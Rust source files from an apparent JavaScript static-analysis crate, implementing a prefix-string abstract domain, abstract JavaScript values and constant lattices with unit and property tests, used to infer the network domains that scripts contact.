    /// - `bot + X = X + bot = bot`
    /// - `(s1, true) + (s2, b2) = (s1 . s2, b2)`
    /// - `(s1, false) + (s2, b2) = (s1, false)`
    pub fn concat(&self, other: &Pre) -> Pre {
        match (self, other) {
            (Pre::Bot, _) | (_, Pre::Bot) => Pre::Bot,
            (Pre::Exact(a), _) if a.is_empty() => *other,
            (Pre::Exact(a), Pre::Exact(b)) => Pre::exact(format!("{a}{b}")),
            (Pre::Exact(a), Pre::Prefix(b)) => Pre::prefix(format!("{a}{b}")),
            (Pre::Prefix(a), _) => Pre::Prefix(*a),
        }
    }

    /// Byte length of the greatest common prefix (always a char
    /// boundary in both strings).
    fn common_prefix_len(a: &str, b: &str) -> usize {
        a.char_indices()
            .zip(b.chars())
            .take_while(|((_, ca), cb)| ca == cb)
            .last()
            .map(|((i, ca), _)| i + ca.len_utf8())
            .unwrap_or(0)
    }

    /// Greatest common prefix of two strings (the paper's `(+)` operator).
    pub fn common_prefix(a: &str, b: &str) -> String {
        a[..Pre::common_prefix_len(a, b)].to_owned()
    }

    /// Abstract equality comparison against another abstract string:
    /// `Some(true)`/`Some(false)` when the comparison is statically
    /// decided, `None` when both outcomes are possible.
    pub fn compare_eq(&self, other: &Pre) -> Option<bool> {
        match (self, other) {
            (Pre::Bot, _) | (_, Pre::Bot) => None,
            (Pre::Exact(a), Pre::Exact(b)) => Some(a == b),
            (Pre::Exact(e), Pre::Prefix(p)) | (Pre::Prefix(p), Pre::Exact(e)) => {
                if e.starts_with(p.as_str()) {
                    None // the unknown string could be exactly `e` or not
                } else {
                    Some(false)
                }
            }
            (Pre::Prefix(a), Pre::Prefix(b)) => {
                // Two unknown strings can only be definitely unequal if the
                // prefixes are incompatible.
                if a.starts_with(b.as_str()) || b.starts_with(a.as_str()) {
                    None
                } else {
                    Some(false)
                }
            }
        }
    }

    /// Abstract lowercasing (preserves exactness; lowercasing is
    /// prefix-monotone for ASCII, which is all URLs need).
    pub fn to_lowercase(&self) -> Pre {
        match self {
            Pre::Bot => Pre::Bot,
            Pre::Exact(s) => Pre::exact(s.to_lowercase()),
            Pre::Prefix(s) => {
                if s.is_ascii() {
                    Pre::prefix(s.to_lowercase())
                } else {
                    Pre::any()
                }
            }
        }
    }

    /// Abstract `substring(0, n)` / `slice(0, n)`: taking a leading slice
    /// of a known prefix keeps the shorter prefix.
    pub fn leading_slice(&self, n: usize) -> Pre {
        match self {
            Pre::Bot => Pre::Bot,
            Pre::Exact(s) => {
                let end = s
                    .char_indices()
                    .nth(n)
                    .map(|(i, _)| i)
                    .unwrap_or(s.len());
                Pre::exact(&s[..end])
            }
            Pre::Prefix(p) => {
                let end = p
                    .char_indices()
                    .nth(n)
                    .map(|(i, _)| i)
                    .unwrap_or(p.len());
                if end < p.len() {
                    // The slice is fully inside the known prefix: exact.
                    Pre::exact(&p[..end])
                } else {
                    Pre::Prefix(*p)
                }
            }
        }
    }

    /// The result of any string operation we model conservatively.
    pub fn unknown_derived(&self) -> Pre {
        match self {
            Pre::Bot => Pre::Bot,
            _ => Pre::any(),
        }
    }
}

impl Lattice for Pre {
    fn bottom() -> Self {
        Pre::Bot
    }

    /// Join per Section 5: exact strings join to themselves when equal,
    /// everything else joins to the greatest common prefix (as a prefix).
    ///
    /// The comparable cases (including the overwhelmingly common `x ⊔ x`)
    /// are answered without touching the interner; only a genuinely new
    /// common prefix interns a string.
    fn join(&self, other: &Self) -> Self {
        if self.leq(other) {
            return *other;
        }
        if other.leq(self) {
            return *self;
        }
        // Incomparable: both are non-bottom, result is the common prefix.
        let (sa, sb) = match (self, other) {
            (Pre::Exact(a) | Pre::Prefix(a), Pre::Exact(b) | Pre::Prefix(b)) => (*a, *b),
            _ => unreachable!("bot is comparable to everything"),
        };
        let end = Pre::common_prefix_len(sa.as_str(), sb.as_str());
        // When the common prefix IS one of the operands' texts (e.g.
        // Exact("a") ⊔ Exact("ab"), or Exact ⊔ an incompatible Prefix it
        // extends), reuse that operand's Sym: no allocation, and — more
        // importantly — no fresh intern. A corpus sweep joins the same
        // incomparable pairs millions of times; only a genuinely new
        // common-prefix *text* may grow the interner, and interning the
        // same text repeatedly is already a no-op, so growth stays
        // bounded by the set of distinct common prefixes.
        if end == sa.len() {
            return Pre::Prefix(sa);
        }
        if end == sb.len() {
            return Pre::Prefix(sb);
        }
        Pre::prefix(&sa.as_str()[..end])
    }

    /// Order per Section 5: `(s1,b1) <= (s2,b2)` iff either `b2 = false`
    /// and `s2` is a prefix of `s1`, or both exact and equal.
    fn leq(&self, other: &Self) -> bool {
        match (self, other) {
            (Pre::Bot, _) => true,
            (_, Pre::Bot) => false,
            (Pre::Exact(a), Pre::Exact(b)) => a == b,
            (Pre::Exact(a), Pre::Prefix(b)) => a.starts_with(b.as_str()),
            (Pre::Prefix(_), Pre::Exact(_)) => false,
            (Pre::Prefix(a), Pre::Prefix(b)) => a.starts_with(b.as_str()),
        }
    }
}

impl MeetLattice for Pre {
    fn top() -> Self {
        Pre::any()
    }

    /// Meet per Section 5, extended with the reflexive exact/exact case
    /// the paper's equations leave implicit (`x ⊓ x = x`).
    fn meet(&self, other: &Self) -> Self {
        if self.leq(other) {
            *self
        } else if other.leq(self) {
            *other
        } else {
            Pre::Bot
        }
    }
}

impl fmt::Display for Pre {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Pre::Bot => write!(f, "⊥"),
            Pre::Exact(s) => write!(f, "{s:?}"),
            Pre::Prefix(s) if s.is_empty() => write!(f, "<unknown>"),
            Pre::Prefix(s) => write!(f, "{s:?}..."),
        }
    }
}

impl From<&str> for Pre {
    fn from(s: &str) -> Pre {
        Pre::exact(s)
    }
}

impl From<String> for Pre {
    fn from(s: String) -> Pre {
        Pre::exact(s)
    }
}

impl From<Sym> for Pre {
    fn from(s: Sym) -> Pre {
        Pre::Exact(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn join_equal_exacts_stays_exact() {
        let a = Pre::exact("www.example.com");
        assert_eq!(a.join(&a), a);
    }

    #[test]
    fn join_computes_common_prefix() {
        // The motivating example of Section 5: baseURL += "name" vs "age".
        let base = Pre::exact("www.example.com/req?");
        let name = base.concat(&Pre::exact("name"));
        let age = base.concat(&Pre::exact("age"));
        assert_eq!(name.join(&age), Pre::prefix("www.example.com/req?"));
    }

    #[test]
    fn join_of_unrelated_domains_loses_everything() {
        // The VKVideoDownloader failure mode: three unrelated player
        // domains join to the empty prefix (unknown).
        let a = Pre::exact("http://vkontakte.ru/player");
        let b = Pre::exact("http://rutube.ru/player");
        assert_eq!(a.join(&b), Pre::prefix("http://"));
        let c = Pre::exact("https://video.mail.ru");
        assert_eq!(a.join(&b).join(&c), Pre::prefix("http"));
    }

    #[test]
    fn join_interns_only_genuinely_new_common_prefixes() {
        // Unique texts so concurrent tests interning in parallel don't
        // collide with ours (the interner is process-global).
        let a = Pre::exact("sym-churn://host/path-alpha");
        let b = Pre::exact("sym-churn://host/path-beta");
        // First incomparable join interns the one new common prefix.
        let joined = a.join(&b);
        assert_eq!(joined, Pre::prefix("sym-churn://host/path-"));
        let after_first = Sym::interner_len();
        // A corpus sweep re-joins the same pairs constantly; repeating
        // the join (both orders, plus the prefix-absorbing variants)
        // must not keep growing the interner. The bound is loose only
        // to tolerate unrelated tests interning concurrently — the
        // churn bug this guards against added one symbol per join.
        for _ in 0..2000 {
            assert_eq!(a.join(&b), joined);
            assert_eq!(b.join(&a), joined);
            assert_eq!(joined.join(&a), joined);
        }
        let growth = Sym::interner_len() - after_first;
        assert!(
            growth <= 32,
            "6000 repeated joins grew the interner by {growth} symbols"
        );
        // When the common prefix IS one operand's text, that operand's
        // Sym is reused — Exact("…/a") ⊔ Exact("…/ab") must not intern
        // "…/a" a second time (nor allocate to discover it's known).
        let short = Pre::exact("sym-churn-reuse://x/a");
        let long = Pre::exact("sym-churn-reuse://x/ab");
        let before = Sym::interner_len();
        assert_eq!(short.join(&long), Pre::Prefix(Sym::intern("sym-churn-reuse://x/a")));
        // `Sym::intern` in the assertion finds the existing symbol; the
        // join itself added nothing beyond what `exact()` created.
        assert!(Sym::interner_len() <= before + 32);
    }

    #[test]
    fn concat_follows_paper_equations() {
        let bot = Pre::Bot;
        let e = Pre::exact("ab");
        let p = Pre::prefix("cd");
        assert_eq!(bot.concat(&e), Pre::Bot);
        assert_eq!(e.concat(&bot), Pre::Bot);
        assert_eq!(e.concat(&e), Pre::exact("abab"));
        assert_eq!(e.concat(&p), Pre::prefix("abcd"));
        assert_eq!(p.concat(&e), Pre::prefix("cd"));
        assert_eq!(p.concat(&p), Pre::prefix("cd"));
        assert_eq!(Pre::exact("").concat(&e), e, "empty exact is identity");
    }

    #[test]
    fn order_per_paper() {
        assert!(Pre::exact("abc").leq(&Pre::prefix("ab")));
        assert!(Pre::prefix("abc").leq(&Pre::prefix("ab")));
        assert!(!Pre::prefix("ab").leq(&Pre::exact("abc")));
        assert!(!Pre::prefix("ab").leq(&Pre::prefix("abc")));
        assert!(Pre::exact("x").leq(&Pre::any()));
        assert!(Pre::Bot.leq(&Pre::exact("x")));
    }

    #[test]
    fn meet_per_paper() {
        assert_eq!(
            Pre::exact("abc").meet(&Pre::prefix("ab")),
            Pre::exact("abc")
        );
        assert_eq!(
            Pre::prefix("ab").meet(&Pre::prefix("abc")),
            Pre::prefix("abc")
        );
        assert_eq!(Pre::exact("abc").meet(&Pre::exact("abd")), Pre::Bot);
        assert_eq!(Pre::exact("abc").meet(&Pre::prefix("xy")), Pre::Bot);
        assert_eq!(Pre::exact("a").meet(&Pre::Bot), Pre::Bot);
    }

    #[test]
    fn compare_eq_decides_when_possible() {
        assert_eq!(
            Pre::exact("a").compare_eq(&Pre::exact("a")),
            Some(true)
        );
        assert_eq!(
            Pre::exact("a").compare_eq(&Pre::exact("b")),
            Some(false)
        );
        assert_eq!(Pre::exact("abc").compare_eq(&Pre::prefix("ab")), None);
        assert_eq!(
            Pre::exact("xyz").compare_eq(&Pre::prefix("ab")),
            Some(false)
        );
        assert_eq!(Pre::prefix("ab").compare_eq(&Pre::prefix("abc")), None);
        assert_eq!(
            Pre::prefix("ab").compare_eq(&Pre::prefix("cd")),
            Some(false)
        );
    }

    #[test]
    fn may_be_membership() {
        assert!(Pre::any().may_be("anything"));
        assert!(Pre::exact("a").may_be("a"));
        assert!(!Pre::exact("a").may_be("ab"));
        assert!(Pre::prefix("http://").may_be("http://x.com"));
        assert!(!Pre::prefix("http://").may_be("ftp://x.com"));
        assert!(!Pre::Bot.may_be(""));
    }

    #[test]
    fn common_prefix_unicode_safe() {
        assert_eq!(Pre::common_prefix("naïve", "naïf"), "naï");
        assert_eq!(Pre::common_prefix("", "abc"), "");
        assert_eq!(Pre::common_prefix("abc", "abc"), "abc");
    }

    #[test]
    fn leading_slice_behaviour() {
        assert_eq!(Pre::exact("abcdef").leading_slice(3), Pre::exact("abc"));
        assert_eq!(Pre::exact("ab").leading_slice(5), Pre::exact("ab"));
        assert_eq!(
            Pre::prefix("abcdef").leading_slice(3),
            Pre::exact("abc")
        );
        assert_eq!(Pre::prefix("ab").leading_slice(5), Pre::prefix("ab"));
    }

    #[test]
    fn lowercase() {
        assert_eq!(
            Pre::exact("HTTP://X.COM").to_lowercase(),
            Pre::exact("http://x.com")
        );
        assert_eq!(Pre::prefix("HTTP").to_lowercase(), Pre::prefix("http"));
        assert_eq!(Pre::Bot.to_lowercase(), Pre::Bot);
    }

    #[test]
    fn display_forms() {
        assert_eq!(Pre::Bot.to_string(), "⊥");
        assert_eq!(Pre::exact("a").to_string(), "\"a\"");
        assert_eq!(Pre::prefix("a").to_string(), "\"a\"...");
        assert_eq!(Pre::any().to_string(), "<unknown>");
    }
}

#[cfg(all(test, feature = "fuzz"))]
mod proptests {
    use super::*;
    use crate::lattice::laws;
    use minicheck::Gen;

    const ABC: &[char] = &['a', 'b', 'c'];

    fn arb_pre(g: &mut Gen) -> Pre {
        match g.below(3) {
            0 => Pre::Bot,
            1 => Pre::exact(g.string_of(ABC, 4)),
            _ => Pre::prefix(g.string_of(ABC, 4)),
        }
    }

    #[test]
    fn lattice_laws() {
        minicheck::check("pre_lattice_laws", 512, |g| {
            let (a, b, c) = (arb_pre(g), arb_pre(g), arb_pre(g));
            laws::check_join_laws(&a, &b, &c);
            laws::check_meet_laws(&a, &b);
        });
    }

    #[test]
    fn join_soundness() {
        minicheck::check("pre_join_soundness", 512, |g| {
            let (a, b) = (arb_pre(g), arb_pre(g));
            let s = g.string_of(ABC, 6);
            // Anything described by a or b is described by the join.
            if a.may_be(&s) || b.may_be(&s) {
                assert!(a.join(&b).may_be(&s));
            }
        });
    }

    #[test]
    fn concat_soundness() {
        minicheck::check("pre_concat_soundness", 512, |g| {
            let sa = g.string_of(ABC, 3);
            let sb = g.string_of(ABC, 3);
            let ta = g.string_of(ABC, 2);
            let tb = g.string_of(ABC, 2);
            // For concrete strings in the concretizations, the abstract
            // concat describes the concrete concatenation.
            for a in [Pre::exact(sa.clone()), Pre::prefix(sa.clone())] {
                for b in [Pre::exact(sb.clone()), Pre::prefix(sb.clone())] {
                    let ca = format!("{sa}{ta}");
                    let cb = format!("{sb}{tb}");
                    let (ca, cb) = match (&a, &b) {
                        (Pre::Exact(_), Pre::Exact(_)) => (sa.clone(), sb.clone()),
                        (Pre::Exact(_), _) => (sa.clone(), cb),
                        (_, Pre::Exact(_)) => (ca, sb.clone()),
                        _ => (ca, cb),
                    };
                    assert!(a.may_be(&ca));
                    assert!(b.may_be(&cb));
                    assert!(
                        a.concat(&b).may_be(&format!("{ca}{cb}")),
                        "concat unsound: {a:?} + {b:?} vs {ca} {cb}"
                    );
                }
            }
        });
    }

    #[test]
    fn compare_eq_soundness() {
        minicheck::check("pre_compare_eq_soundness", 512, |g| {
            let (a, b) = (arb_pre(g), arb_pre(g));
            let s = g.string_of(ABC, 4);
            // If compare_eq says definitely-false, no common string exists.
            if a.compare_eq(&b) == Some(false) {
                assert!(!(a.may_be(&s) && b.may_be(&s)));
            }
        });
    }

    #[test]
    fn meet_is_intersection_upper() {
        minicheck::check("pre_meet_is_intersection_upper", 512, |g| {
            let (a, b) = (arb_pre(g), arb_pre(g));
            let s = g.string_of(ABC, 4);
            if a.may_be(&s) && b.may_be(&s) {
                assert!(a.meet(&b).may_be(&s), "meet lost {s} from {a:?} ^ {b:?}");
            }
        });
    }

    #[test]
    fn noetherian_ascending_chains() {
        minicheck::check("pre_noetherian_ascending_chains", 512, |g| {
            let ss = g.vec_of(1, 7, |g| g.string_of(ABC, 4));
            // Joining any sequence terminates at a fixed element quickly:
            // chains stabilize (finite ascending chain condition).
            let mut acc = Pre::Bot;
            let mut changes = 0;
            for s in &ss {
                let next = acc.join(&Pre::exact(s.clone()));
                if next != acc {
                    changes += 1;
                }
                acc = next;
            }
            // At most: bot -> exact -> a strictly shortening chain of
            // prefixes. Prefix length only decreases, so changes are
            // bounded by 2 + max prefix length.
            assert!(changes <= 2 + 4);
        });
    }
}
