//! Abstract JavaScript values.
//!
//! An abstract value is the reduced product of the per-type domains: a
//! set of possible `undefined`/`null` flags, a boolean lattice element, a
//! number lattice element, a prefix-string element, and a set of abstract
//! object addresses (allocation sites).

use crate::consts::{BoolDom, NumDom};
use crate::lattice::Lattice;
use crate::prefix::Pre;
use std::collections::BTreeSet;
use std::fmt;

/// An abstract heap address: the allocation site that created the object,
/// numbered densely by the base analysis.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct AllocSite(pub u32);

impl fmt::Display for AllocSite {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "@{}", self.0)
    }
}

/// An abstract value: the join-semilattice product of all base domains.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AValue {
    /// May the value be `undefined`?
    pub undef: bool,
    /// May the value be `null`?
    pub null: bool,
    /// Possible boolean values.
    pub bools: BoolDom,
    /// Possible numeric values.
    pub nums: NumDom,
    /// Possible string values (prefix domain).
    pub strs: Pre,
    /// Possible object addresses.
    pub objs: BTreeSet<AllocSite>,
}

impl AValue {
    /// The abstract `undefined`.
    pub fn undef() -> AValue {
        AValue {
            undef: true,
            ..AValue::bottom()
        }
    }

    /// The abstract `null`.
    pub fn null() -> AValue {
        AValue {
            null: true,
            ..AValue::bottom()
        }
    }

    /// An abstract boolean constant.
    pub fn bool(b: bool) -> AValue {
        AValue {
            bools: BoolDom::of(b),
            ..AValue::bottom()
        }
    }

    /// Any boolean.
    pub fn any_bool() -> AValue {
        AValue {
            bools: BoolDom::Top,
            ..AValue::bottom()
        }
    }

    /// An abstract numeric constant.
    pub fn num(n: f64) -> AValue {
        AValue {
            nums: NumDom::Const(n),
            ..AValue::bottom()
        }
    }

    /// Any number.
    pub fn any_num() -> AValue {
        AValue {
            nums: NumDom::Top,
            ..AValue::bottom()
        }
    }

    /// An abstract string from a prefix-domain element.
    pub fn str(s: impl Into<Pre>) -> AValue {
        AValue {
            strs: s.into(),
            ..AValue::bottom()
        }
    }

    /// Any string.
    pub fn any_str() -> AValue {
        AValue {
            strs: Pre::any(),
            ..AValue::bottom()
        }
    }

    /// A single object address.
    pub fn obj(site: AllocSite) -> AValue {
        let mut objs = BTreeSet::new();
        objs.insert(site);
        AValue {
            objs,
            ..AValue::bottom()
        }
    }

    /// A set of object addresses.
    pub fn objects(sites: impl IntoIterator<Item = AllocSite>) -> AValue {
        AValue {
            objs: sites.into_iter().collect(),
            ..AValue::bottom()
        }
    }

    /// The completely unknown value (any type).
    pub fn any() -> AValue {
        AValue {
            undef: true,
            null: true,
            bools: BoolDom::Top,
            nums: NumDom::Top,
            strs: Pre::any(),
            objs: BTreeSet::new(),
        }
    }

    /// True if the value has no possible concretization.
    pub fn is_nothing(&self) -> bool {
        self.is_bottom()
    }

    /// May this value be a string?
    pub fn may_be_string(&self) -> bool {
        !self.strs.is_bottom()
    }

    /// May this value be an object?
    pub fn may_be_object(&self) -> bool {
        !self.objs.is_empty()
    }

    /// May a property access on this value throw (i.e. may it be
    /// `undefined` or `null`)? This drives the implicit-exception CFG
    /// edges of Section 3.
    pub fn may_throw_on_access(&self) -> bool {
        self.undef || self.null
    }

    /// May this value be a non-object primitive?
    pub fn may_be_primitive(&self) -> bool {
        self.undef
            || self.null
            || self.bools != BoolDom::Bot
            || self.nums != NumDom::Bot
            || !self.strs.is_bottom()
    }

    /// Abstract truthiness.
    pub fn truthiness(&self) -> BoolDom {
        let mut may_true = !self.objs.is_empty();
        let mut may_false = self.undef || self.null;
        match self.bools {
            BoolDom::Bot => {}
            BoolDom::True => may_true = true,
            BoolDom::False => may_false = true,
            BoolDom::Top => {
                may_true = true;
                may_false = true;
            }
        }
        match self.nums {
            NumDom::Bot => {}
            NumDom::Const(n) => {
                if n != 0.0 && !n.is_nan() {
                    may_true = true;
                } else {
                    may_false = true;
                }
            }
            NumDom::Top => {
                may_true = true;
                may_false = true;
            }
        }
        match &self.strs {
            Pre::Bot => {}
            Pre::Exact(s) => {
                if s.is_empty() {
                    may_false = true;
                } else {
                    may_true = true;
                }
            }
            Pre::Prefix(p) => {
                may_true = true;
                if p.is_empty() {
                    may_false = true;
                }
            }
        }
        match (may_true, may_false) {
            (true, true) => BoolDom::Top,
            (true, false) => BoolDom::True,
            (false, true) => BoolDom::False,
            (false, false) => BoolDom::Bot,
        }
    }

    /// Abstract coercion to a string (for property keys, concatenation).
    pub fn to_abstract_string(&self) -> Pre {
        let mut out = Pre::Bot;
        if self.undef {
            out = out.join(&Pre::exact("undefined"));
        }
        if self.null {
            out = out.join(&Pre::exact("null"));
        }
        match self.bools {
            BoolDom::Bot => {}
            BoolDom::True => out = out.join(&Pre::exact("true")),
            BoolDom::False => out = out.join(&Pre::exact("false")),
            BoolDom::Top => {
                out = out.join(&Pre::exact("true")).join(&Pre::exact("false"));
            }
        }
        match self.nums {
            NumDom::Bot => {}
            NumDom::Const(n) => {
                out = out.join(&Pre::exact(jsparser::number_to_string(n)));
            }
            NumDom::Top => out = Pre::any(),
        }
        out = out.join(&self.strs);
        if !self.objs.is_empty() {
            // Object toString is arbitrary.
            out = Pre::any();
        }
        out
    }

    /// Rewrites one object address into another (recency aging).
    pub fn rename_site(&mut self, from: AllocSite, to: AllocSite) -> bool {
        if self.objs.remove(&from) {
            self.objs.insert(to);
            true
        } else {
            false
        }
    }

    /// Removes object addresses, keeping only primitive parts.
    pub fn without_objects(&self) -> AValue {
        AValue {
            objs: BTreeSet::new(),
            ..self.clone()
        }
    }

    /// Restricts to the "truthy" portion of the value, used to refine
    /// branch conditions (drops `undefined`, `null`, `false`, `0`, `""`).
    pub fn assume_truthy(&self) -> AValue {
        let mut v = self.clone();
        v.undef = false;
        v.null = false;
        if v.bools == BoolDom::False {
            v.bools = BoolDom::Bot;
        } else if v.bools == BoolDom::Top {
            v.bools = BoolDom::True;
        }
        if let NumDom::Const(n) = v.nums {
            if n == 0.0 || n.is_nan() {
                v.nums = NumDom::Bot;
            }
        }
        if let Pre::Exact(s) = &v.strs {
            if s.is_empty() {
                v.strs = Pre::Bot;
            }
        }
        v
    }
}

impl Lattice for AValue {
    fn bottom() -> Self {
        AValue {
            undef: false,
            null: false,
            bools: BoolDom::Bot,
            nums: NumDom::Bot,
            strs: Pre::Bot,
            objs: BTreeSet::new(),
        }
    }

    fn join(&self, other: &Self) -> Self {
        AValue {
            undef: self.undef || other.undef,
            null: self.null || other.null,
            bools: self.bools.join(&other.bools),
            nums: self.nums.join(&other.nums),
            strs: self.strs.join(&other.strs),
            objs: self.objs.union(&other.objs).copied().collect(),
        }
    }

    fn leq(&self, other: &Self) -> bool {
        (!self.undef || other.undef)
            && (!self.null || other.null)
            && self.bools.leq(&other.bools)
            && self.nums.leq(&other.nums)
            && self.strs.leq(&other.strs)
            && self.objs.is_subset(&other.objs)
    }
}

impl fmt::Display for AValue {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut parts: Vec<String> = Vec::new();
        if self.undef {
            parts.push("undefined".into());
        }
        if self.null {
            parts.push("null".into());
        }
        if self.bools != BoolDom::Bot {
            parts.push(self.bools.to_string());
        }
        if self.nums != NumDom::Bot {
            parts.push(self.nums.to_string());
        }
        if !self.strs.is_bottom() {
            parts.push(self.strs.to_string());
        }
        for o in &self.objs {
            parts.push(o.to_string());
        }
        if parts.is_empty() {
            write!(f, "⊥")
        } else {
            write!(f, "{}", parts.join(" | "))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constructors_and_queries() {
        assert!(AValue::undef().may_throw_on_access());
        assert!(AValue::null().may_throw_on_access());
        assert!(!AValue::num(1.0).may_throw_on_access());
        assert!(AValue::obj(AllocSite(0)).may_be_object());
        assert!(!AValue::obj(AllocSite(0)).may_be_primitive());
        assert!(AValue::str("x").may_be_string());
        assert!(AValue::bottom().is_nothing());
    }

    #[test]
    fn truthiness() {
        assert_eq!(AValue::bool(true).truthiness(), BoolDom::True);
        assert_eq!(AValue::undef().truthiness(), BoolDom::False);
        assert_eq!(AValue::num(0.0).truthiness(), BoolDom::False);
        assert_eq!(AValue::num(2.0).truthiness(), BoolDom::True);
        assert_eq!(AValue::str("").truthiness(), BoolDom::False);
        assert_eq!(AValue::str("x").truthiness(), BoolDom::True);
        assert_eq!(AValue::any().truthiness(), BoolDom::Top);
        assert_eq!(
            AValue::str(Pre::prefix("ab")).truthiness(),
            BoolDom::True,
            "a string with nonempty prefix is never falsy"
        );
        assert_eq!(AValue::obj(AllocSite(1)).truthiness(), BoolDom::True);
    }

    #[test]
    fn to_string_coercion() {
        assert_eq!(
            AValue::num(42.0).to_abstract_string(),
            Pre::exact("42")
        );
        assert_eq!(
            AValue::undef().to_abstract_string(),
            Pre::exact("undefined")
        );
        assert_eq!(
            AValue::str("k").to_abstract_string(),
            Pre::exact("k")
        );
        assert_eq!(
            AValue::obj(AllocSite(0)).to_abstract_string(),
            Pre::any()
        );
        // Join of two different constants becomes a common prefix.
        let v = AValue::bool(true).join(&AValue::bool(false));
        assert_eq!(v.to_abstract_string(), Pre::Bot.join(&Pre::exact("true")).join(&Pre::exact("false")));
    }

    #[test]
    fn join_and_leq() {
        let a = AValue::num(1.0);
        let b = AValue::str("s");
        let j = a.join(&b);
        assert!(a.leq(&j) && b.leq(&j));
        assert!(!j.leq(&a));
        assert!(AValue::bottom().leq(&a));
    }

    #[test]
    fn assume_truthy_refines() {
        let v = AValue::undef().join(&AValue::obj(AllocSite(3)));
        let t = v.assume_truthy();
        assert!(!t.undef);
        assert!(t.may_be_object());
        let b = AValue::any_bool().assume_truthy();
        assert_eq!(b.bools, BoolDom::True);
        let s = AValue::str("").assume_truthy();
        assert!(!s.may_be_string());
    }

    #[test]
    fn display_nonempty() {
        assert_eq!(AValue::bottom().to_string(), "⊥");
        assert!(AValue::any().to_string().contains("undefined"));
    }
}

#[cfg(all(test, feature = "fuzz"))]
mod proptests {
    use super::*;
    use crate::lattice::laws;
    use minicheck::Gen;

    fn arb_value(g: &mut Gen) -> AValue {
        let bools = *g.pick(&[BoolDom::Bot, BoolDom::True, BoolDom::False, BoolDom::Top]);
        let nums = match g.below(3) {
            0 => NumDom::Bot,
            1 => NumDom::Top,
            _ => NumDom::Const(g.range(-2, 2) as f64),
        };
        let strs = match g.below(3) {
            0 => Pre::Bot,
            1 => Pre::exact(g.string_of(&['a', 'b'], 2)),
            _ => Pre::prefix(g.string_of(&['a', 'b'], 2)),
        };
        let objs: BTreeSet<AllocSite> = (0..g.below(3))
            .map(|_| AllocSite(g.below(4) as u32))
            .collect();
        AValue {
            undef: g.bool(),
            null: g.bool(),
            bools,
            nums,
            strs,
            objs,
        }
    }

    #[test]
    fn value_lattice_laws() {
        minicheck::check("value_lattice_laws", 256, |g| {
            let (a, b, c) = (arb_value(g), arb_value(g), arb_value(g));
            laws::check_join_laws(&a, &b, &c);
        });
    }

    #[test]
    fn truthy_refinement_sound() {
        minicheck::check("value_truthy_refinement_sound", 256, |g| {
            // assume_truthy never introduces new possibilities.
            let a = arb_value(g);
            assert!(a.assume_truthy().leq(&a));
        });
    }

    #[test]
    fn to_string_monotone() {
        minicheck::check("value_to_string_monotone", 256, |g| {
            use crate::lattice::Lattice as _;
            let (a, b) = (arb_value(g), arb_value(g));
            if a.leq(&b) {
                assert!(a.to_abstract_string().leq(&b.to_abstract_string()));
            }
        });
    }
}
