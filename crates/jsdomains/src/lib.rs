//! Abstract domains for the addon-sig base analysis.
//!
//! This crate provides the lattices used by the abstract interpreter in
//! `jsanalysis`:
//!
//! - [`Pre`], the **prefix string domain** of Section 5 of the paper
//!   (exact strings + known prefixes), used both for inferring network
//!   domains and for abstract property names;
//! - [`NumDom`] / [`BoolDom`], flat constant domains;
//! - [`AValue`], the reduced-product abstract value;
//! - [`AObject`] / [`Heap`], allocation-site-summarized abstract objects
//!   with singleton tracking (the enabler of strong updates and thus of
//!   the paper's `datastrong` PDG edges).
//!
//! # Examples
//!
//! The motivating example from Section 5 -- joining two URLs built from a
//! common base keeps the network domain:
//!
//! ```
//! use jsdomains::{Lattice, Pre};
//!
//! let base = Pre::exact("www.example.com/req?");
//! let with_name = base.concat(&Pre::exact("name"));
//! let with_age = base.concat(&Pre::exact("age"));
//! assert_eq!(
//!     with_name.join(&with_age),
//!     Pre::prefix("www.example.com/req?"),
//! );
//! ```

#![warn(missing_docs)]

mod consts;
mod lattice;
mod object;
mod prefix;
mod sym;
mod value;

pub use consts::{BoolDom, NumDom};
pub use lattice::{Lattice, MeetLattice};
pub use object::{cow_clone_count, AObject, FuncIndex, Heap, NativeId, ObjKind};
pub use prefix::Pre;
pub use sym::Sym;
pub use value::{AValue, AllocSite};
