//! Constant-propagation domains for numbers and booleans.
//!
//! The base analysis only needs constant precision for numbers and
//! booleans (strings get the richer prefix domain); these are classic
//! three-level flat lattices.

use crate::lattice::{Lattice, MeetLattice};
use std::fmt;

/// Flat constant lattice over `f64`.
///
/// NaN handling: JavaScript `NaN` is a perfectly good constant, but
/// `f64::partial_cmp` makes it awkward; we compare constants bitwise so
/// that `Const(NaN) == Const(NaN)` holds and the lattice laws survive.
#[derive(Debug, Clone, Copy)]
pub enum NumDom {
    /// Uninitialized.
    Bot,
    /// Exactly this number.
    Const(f64),
    /// Any number.
    Top,
}

impl NumDom {
    /// The constant value, if known.
    pub fn as_const(&self) -> Option<f64> {
        match self {
            NumDom::Const(n) => Some(*n),
            _ => None,
        }
    }

    /// Applies a binary arithmetic operation, constant-folding when both
    /// sides are constants.
    pub fn binop(&self, other: &NumDom, f: impl Fn(f64, f64) -> f64) -> NumDom {
        match (self, other) {
            (NumDom::Bot, _) | (_, NumDom::Bot) => NumDom::Bot,
            (NumDom::Const(a), NumDom::Const(b)) => NumDom::Const(f(*a, *b)),
            _ => NumDom::Top,
        }
    }

    /// Applies a unary arithmetic operation.
    pub fn unop(&self, f: impl Fn(f64) -> f64) -> NumDom {
        match self {
            NumDom::Bot => NumDom::Bot,
            NumDom::Const(a) => NumDom::Const(f(*a)),
            NumDom::Top => NumDom::Top,
        }
    }
}

impl PartialEq for NumDom {
    fn eq(&self, other: &Self) -> bool {
        match (self, other) {
            (NumDom::Bot, NumDom::Bot) | (NumDom::Top, NumDom::Top) => true,
            (NumDom::Const(a), NumDom::Const(b)) => a.to_bits() == b.to_bits(),
            _ => false,
        }
    }
}

impl Eq for NumDom {}

impl Lattice for NumDom {
    fn bottom() -> Self {
        NumDom::Bot
    }

    fn join(&self, other: &Self) -> Self {
        match (self, other) {
            (NumDom::Bot, x) | (x, NumDom::Bot) => *x,
            (a, b) if a == b => *a,
            _ => NumDom::Top,
        }
    }

    fn leq(&self, other: &Self) -> bool {
